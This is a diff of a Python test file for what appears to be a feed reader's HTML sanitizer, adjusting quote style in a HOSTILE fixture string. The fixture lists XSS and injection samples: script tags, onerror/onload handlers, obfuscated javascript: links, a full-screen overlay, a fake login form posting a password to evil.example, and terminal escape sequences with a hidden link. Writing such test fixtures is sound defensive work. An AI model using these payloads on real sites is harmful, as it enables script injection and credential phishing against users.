@@ -19,7 +19,7 @@ from tests.conftest import item, rss
 HOSTILE = (
     '<h1 style="font-size:400px;position:fixed;top:0;left:0">Subsample: Fake Header</h1>'
     "<script>window.__pwned = 1; document.title = 'pwned';</script>"
-    "<img src=\"https://example.org/x.png\" onerror=\"window.__pwned = 2\" onload=\"window.__pwned = 3\">"
+    '<img src="https://example.org/x.png" onerror="window.__pwned = 2" onload="window.__pwned = 3">'
     '<a href="javascript:window.__pwned=4">click me</a>'
     '<a href="JaVaScRiPt&#58;alert(1)">encoded</a>'
     '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red"'
@@ -28,7 +28,7 @@ HOSTILE = (
     '<form action="https://evil.example/"><input name="pw"><button>Log in</button></form>'
     "<style>body { display: none }</style>"
     '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">'
-    '<svg><script>window.__pwned = 5</script></svg>'
+    "<svg><script>window.__pwned = 5</script></svg>"
     "<p>Terminal \x1b[31mred\x1b[0m and \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 escapes</p>"
     "<p>The honest paragraph.</p>"
 )
